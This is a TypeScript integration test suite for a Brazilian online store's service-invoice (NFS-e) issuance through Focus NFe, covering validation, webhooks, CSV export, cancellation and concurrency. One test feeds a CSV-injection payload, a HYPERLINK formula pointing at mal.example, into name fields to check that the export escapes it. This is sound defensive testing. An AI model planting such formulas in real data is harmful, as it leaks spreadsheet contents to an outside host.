import { eq } from 'drizzle-orm'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { CheckoutAnswer } from '../../../contracts/checkout.js'
import type { AdminInvoice } from '../../../contracts/invoices.js'
import { ERROR_FIELD_HEADER } from '../../../contracts/error-field.js'
import { adminApi } from '../../testing/admin.js'
import { adminSession, customerSession } from '../../testing/auth.js'
import { call, guestForm, newCartSession } from '../../testing/commerce.js'
import { startFakeFocusNfe, type FakeFocusNfe } from '../../testing/fake-focusnfe.js'
import { insertProduct } from '../../testing/fixtures.js'
import { outboxRows } from '../../testing/messaging.js'
import { storeRows } from '../../testing/rows.js'
import { createTestStore, type TestStore } from '../../testing/test-app.js'
import { invoices } from './invoices.tables.js'

const CNPJ = '11.222.333/0001-81'
const CPF = '529.982.247-25'
const DAY = 24 * 60 * 60 * 1000
let fake: FakeFocusNfe
let store: TestStore
let kit: { id: number }
let admin: string
// The clock the store's jobs read (claims' "now"): tests move it past the withdrawal window.
let at = Date.now()
const clock = () => new Date(at)

const { adminCall } = adminApi(
  () => store,
  () => admin,
)
const { orderRow } = storeRows(() => store)
const save = async (key: string, value: string) => {
  const res = await adminCall('POST', '/api/admin/settings', { key, value })
  if (res.statusCode !== 200) throw new Error(`${key}: ${res.body}`)
}
const invoiceOf = async (orderId: string) =>
  (await store.database.db.select().from(invoices).where(eq(invoices.orderId, orderId)))[0]
const runDue = () => store.app.services.invoices.runDue()

beforeAll(async () => {
  fake = await startFakeFocusNfe()
  store = await createTestStore({ env: { FOCUSNFE_API_URL: fake.url }, now: clock })
  kit = await insertProduct(store, { name: 'Kit Alfabetização', priceCents: 2990 })
  admin = (await adminSession(store.app)).cookie
  await save('nfse_provider', 'focusnfe')
  await save('focusnfe_token', fake.token)
  await save('footer_cnpj', '12.345.678/0001-95')
  await save('nfse_service_code', '0802')
  await save('nfse_iss_rate', '2,5')
  await save('nfse_issue_on', 'paid')
})
afterAll(async () => {
  await store.close()
  await fake.close()
})

async function order(invoice?: unknown, cookie?: string): Promise<string> {
  const res = await call(
    store,
    'POST',
    '/api/checkout',
    {
      items: [{ productId: kit.id, quantity: 1 }],
      ...(cookie ? {} : { customerData: guestForm() }),
      ...(invoice ? { invoice } : {}),
    },
    { session: newCartSession(), ...(cookie ? { cookie } : {}) },
  )
  if (res.statusCode !== 201) throw new Error(`checkout ${res.statusCode} ${res.body}`)
  return res.json<CheckoutAnswer>().order.id
}
const pay = (id: string) => store.app.services.orders.markOrderPaid(id, 'admin')

describe("'Quero nota fiscal' at checkout", () => {
  it('checks the CPF/CNPJ digit by digit and asks a CNPJ its company name', async () => {
    const place = (invoice: unknown) =>
      call(
        store,
        'POST',
        '/api/checkout',
        { items: [{ productId: kit.id }], customerData: guestForm(), invoice },
        { session: newCartSession() },
      )
    const wrongCpf = await place({ taxId: '529.982.247-24' })
    expect(wrongCpf.statusCode).toBe(400)
    expect(wrongCpf.json()).toEqual({ message: 'CPF inválido' })
    expect(wrongCpf.headers[ERROR_FIELD_HEADER]).toBe('invoice.taxId')
    const wrongCnpj = await place({ taxId: '11.222.333/0001-80', companyName: 'Escola' })
    expect(wrongCnpj.json()).toEqual({ message: 'CNPJ inválido' })
    const noName = await place({ taxId: CNPJ })
    expect(noName.statusCode).toBe(400)
    expect(noName.headers[ERROR_FIELD_HEADER]).toBe('invoice.companyName')
  })

  it('stores the document only on the orders that asked, and exports it', async () => {
    const asked = await order({ taxId: CNPJ, companyName: 'Escola Municipal Aurora' })
    const plain = await order()
    expect(await orderRow(asked)).toMatchObject({
      invoiceTaxId: '11222333000181',
      invoiceCompanyName: 'Escola Municipal Aurora',
    })
    expect(await orderRow(plain)).toMatchObject({ invoiceTaxId: null, invoiceCompanyName: null })
    const cpf = await order({ taxId: CPF, companyName: 'ignorado' })
    expect(await orderRow(cpf)).toMatchObject({
      invoiceTaxId: '52998224725',
      invoiceCompanyName: null,
    })
  })
})

describe('the nota of a paid order (Focus NFe)', () => {
  it('is issued on payment, authorised by webhook, with its links e-mailed and in Meus materiais', async () => {
    const buyer = await customerSession(store.app)
    const id = await order({ taxId: CNPJ, companyName: 'Escola Municipal Aurora' }, buyer.cookie)
    await pay(id)
    expect(await runDue()).toBe(1)
    expect(fake.posts.filter((p) => p.ref === id)).toHaveLength(1)
    const sent = fake.posts.find((p) => p.ref === id)!.body
    expect(sent).toMatchObject({
      prestador: { cnpj: '12345678000195' },
      tomador: { cnpj: '11222333000181', razao_social: 'Escola Municipal Aurora' },
      servico: { aliquota: 2.5, item_lista_servico: '0802', valor_servicos: 29.9 },
    })
    expect((await invoiceOf(id))?.status).toBe('processing')

    fake.authorize(id)
    const hook = await call(store, 'POST', '/api/webhooks/nfse/focusnfe', {
      ref: id,
      status: 'autorizado',
    })
    expect(hook.statusCode).toBe(200)
    const row = await invoiceOf(id)
    expect(row).toMatchObject({ status: 'authorized', number: fake.notas.get(id)!.numero })
    expect(row?.xmlUrl).toBe(`${fake.url}/arquivos/${id}/nfse.xml`)

    const mail = (await outboxRows(store)).find(
      (m) => m.dedupeKey === `order:${id}:nota-authorized`,
    )
    expect(mail?.body).toContain(row!.pdfUrl!)
    expect(mail?.body).toContain(row!.xmlUrl!)

    const mine = await call(store, 'GET', '/api/user/orders', undefined, { cookie: buyer.cookie })
    const listed = mine.json<{ id: string; invoice: unknown }[]>().find((o) => o.id === id)
    expect(listed?.invoice).toEqual({
      number: row!.number,
      pdfUrl: row!.pdfUrl,
      xmlUrl: row!.xmlUrl,
    })

    const list = await adminCall('GET', '/api/admin/invoices')
    expect(list.json<AdminInvoice[]>().find((i) => i.orderId === id)).toMatchObject({
      status: 'authorized',
      amount: '29.90',
      number: row!.number,
    })
    const months = await adminCall('GET', '/api/admin/invoices/months')
    expect(months.json<{ total: string }[]>()[0]?.total).toBe('29.90')
    const csv = await adminCall(
      'GET',
      `/api/admin/invoices.csv?month=${months.json<{ month: string }[]>()[0]!.month}`,
    )
    expect(csv.body).toContain(id)
    // The accountant reads the status in words, never its code name.
    expect(csv.body).toMatch(new RegExp(`\n\\d+;${id};[^;]*;29,90;Emitida;`))
  })

  it("keeps a formula typed as the company's or the buyer's name as text in the CSV", async () => {
    const formula = '=HYPERLINK("https://mal.example/"&A1,"Abrir nota")'
    const byCompany = await order({ taxId: CNPJ, companyName: formula })
    const placed = await call(
      store,
      'POST',
      '/api/checkout',
      {
        items: [{ productId: kit.id, quantity: 1 }],
        customerData: guestForm({
          firstName: '=HYPERLINK("https://mal.example/"&A1',
          lastName: '"Abrir")',
        }),
        invoice: { taxId: CPF },
      },
      { session: newCartSession() },
    )
    expect(placed.statusCode, placed.body).toBe(201)
    const byPerson = placed.json<CheckoutAnswer>().order.id
    for (const id of [byCompany, byPerson]) {
      await pay(id)
      await runDue()
      fake.authorize(id)
      const hook = await call(store, 'POST', '/api/webhooks/nfse/focusnfe', {
        ref: id,
        status: 'autorizado',
      })
      expect(hook.statusCode).toBe(200)
    }
    const listed = (await adminCall('GET', '/api/admin/invoices')).json<AdminInvoice[]>()
    const authorizedAt = listed.find((i) => i.orderId === byCompany)!.authorizedAt!
    const month = new Intl.DateTimeFormat('en-CA', { timeZone: 'America/Sao_Paulo' })
      .format(new Date(authorizedAt))
      .slice(0, 7)
    const csv = await adminCall('GET', `/api/admin/invoices.csv?month=${month}`)
    expect(csv.statusCode).toBe(200)
    expect(csv.headers['content-type']).toBe('text/csv; charset=utf-8')
    const lines = csv.body
      .replace(/^\uFEFF/, '')
      .trimEnd()
      .split('\r\n')
    const company = lines.find((l) => l.includes(byCompany))!
    const person = lines.find((l) => l.includes(byPerson))!
    expect(company).toContain(`;"'=HYPERLINK(""https://mal.example/""&A1,""Abrir nota"")";`)
    expect(person).toContain(`;"'=HYPERLINK(""https://mal.example/""&A1`)
    // No cell of the file starts a formula (a quoted one included).
    expect(lines.join('\n')).not.toMatch(/(^|;)"?[=+@-]/m)
  })

  it('makes exactly one nota when the payment is confirmed twice and the worker runs twice', async () => {
    const id = await order({ taxId: CPF })
    const paid = await Promise.all([pay(id), pay(id)])
    expect(paid.filter(Boolean)).toHaveLength(1)
    await Promise.all([runDue(), runDue()])
    const rows = await store.database.db.select().from(invoices).where(eq(invoices.orderId, id))
    expect(rows).toHaveLength(1)
    expect(fake.posts.filter((p) => p.ref === id)).toHaveLength(1)
  })

  it('issues only after the 7-day withdrawal window when so set', async () => {
    await save('nfse_issue_on', 'after_withdrawal')
    try {
      const id = await order({ taxId: CPF })
      await pay(id)
      await runDue()
      expect(fake.posts.filter((p) => p.ref === id)).toHaveLength(0)
      at += 7 * DAY + 60_000
      await runDue()
      expect(fake.posts.filter((p) => p.ref === id)).toHaveLength(1)
    } finally {
      await save('nfse_issue_on', 'paid')
    }
  })

  it('shows a failure with the provider’s message, and the owner retries it', async () => {
    const id = await order({ taxId: CPF })
    await pay(id)
    fake.refuseNext('Código de serviço não permitido para o prestador')
    await runDue()
    const failed = (await adminCall('GET', '/api/admin/invoices')).json<AdminInvoice[]>()
    const row = failed.find((i) => i.orderId === id)!
    expect(row.status).toBe('failed')
    expect(row.message).toContain('Código de serviço não permitido')

    const retried = await adminCall('POST', `/api/admin/invoices/${id}/retry`)
    expect(retried.statusCode).toBe(200)
    expect(retried.json<AdminInvoice>()).toMatchObject({ status: 'processing', message: null })
    expect(fake.posts.filter((p) => p.ref === id)).toHaveLength(2)
    expect(fake.notas.get(id)?.status).toBe('processando_autorizacao')
  })

  it('cancels the nota when the order is refunded; drops one not yet issued', async () => {
    const id = await order({ taxId: CPF })
    await pay(id)
    await runDue()
    fake.authorize(id)
    await call(store, 'POST', '/api/webhooks/nfse/focusnfe', { ref: id })
    expect((await invoiceOf(id))?.status).toBe('authorized')
    await store.app.services.orders.close(id, 'paid', 'refunded')
    expect((await invoiceOf(id))?.status).toBe('cancel_pending')
    await runDue()
    expect(fake.deletes).toContain(id)
    expect((await invoiceOf(id))?.status).toBe('cancelled')
    expect(fake.notas.get(id)?.status).toBe('cancelado')

    await save('nfse_issue_on', 'after_withdrawal')
    try {
      const early = await order({ taxId: CPF })
      await pay(early)
      await store.app.services.orders.close(early, 'paid', 'refunded')
      expect((await invoiceOf(early))?.status).toBe('dropped')
    } finally {
      await save('nfse_issue_on', 'paid')
    }
  })

  it('tells the owner when the municipality refuses the cancellation', async () => {
    await save('admin_email', 'dona@loja.com.br')
    const id = await order({ taxId: CPF })
    await pay(id)
    await runDue()
    fake.authorize(id)
    await runDue()
    fake.denyCancellations('Prazo de cancelamento expirado')
    try {
      await store.app.services.orders.close(id, 'paid', 'refunded')
      await runDue()
      expect(await invoiceOf(id)).toMatchObject({
        status: 'cancel_denied',
        message: 'Prazo de cancelamento expirado',
      })
      const mail = (await outboxRows(store)).find(
        (m) => m.dedupeKey === `order:${id}:nota-cancel-denied`,
      )
      expect(mail?.toNumber).toBe('dona@loja.com.br')
    } finally {
      fake.denyCancellations(null)
    }
  })

  it('makes no nota for an order that did not ask, unless set to issue to unidentified buyers', async () => {
    const plain = await order()
    await pay(plain)
    expect(await invoiceOf(plain)).toBeUndefined()
    await save('nfse_unidentified_buyer', 'true')
    const unidentified = await order()
    await pay(unidentified)
    await runDue()
    expect(fake.posts.find((p) => p.ref === unidentified)?.body.tomador).toEqual({})
  })

  it('keeps the admin routes for the owner only', async () => {
    expect((await call(store, 'GET', '/api/admin/invoices')).statusCode).toBe(401)
  })
})

describe.runIf(process.env.DATABASE_URL)('two instances on one PostgreSQL database', () => {
  it('issue one nota between them', async () => {
    const other = await createTestStore({
      databaseUrl: store.databaseUrl,
      env: { FOCUSNFE_API_URL: fake.url },
      now: clock,
    })
    try {
      const ids = await Promise.all([1, 2, 3].map(() => order({ taxId: CPF })))
      for (const id of ids) await pay(id)
      await Promise.all([runDue(), other.app.services.invoices.runDue(), runDue()])
      for (const id of ids) expect(fake.posts.filter((p) => p.ref === id)).toHaveLength(1)
    } finally {
      await other.app.close()
    }
  })
})
